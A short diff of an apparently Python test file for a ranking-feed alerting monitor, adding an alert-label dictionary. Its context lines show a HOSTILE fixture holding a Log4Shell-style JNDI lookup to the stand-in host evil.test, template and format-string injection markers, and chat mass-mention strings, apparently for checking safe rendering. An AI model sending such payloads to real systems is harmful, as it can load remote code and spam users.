@@ -22,6 +22,9 @@ from monitor.model import (
 
 WHY = "62 % of the drop: everywhere, 12 items left their lists; order 38 %."
 INCIDENT = "home-feed:critical:2024-01-08"
+LABELS = {"alertname": "SimilarityLow", "comparison": "home-feed", "segment": "all", "severity": "critical"} | {
+    "metric": "extended_tau", "statistic": "mean", "team": "ranking"
+}  # fmt: skip
 HOSTILE = {
     "template": "{{ .Labels }}${jndi:ldap://evil.test/a}%(x)s{0}",
     "mention": "<!channel><!here><@U0001><#C0001><!subteam^S1> @channel @here @everyone",
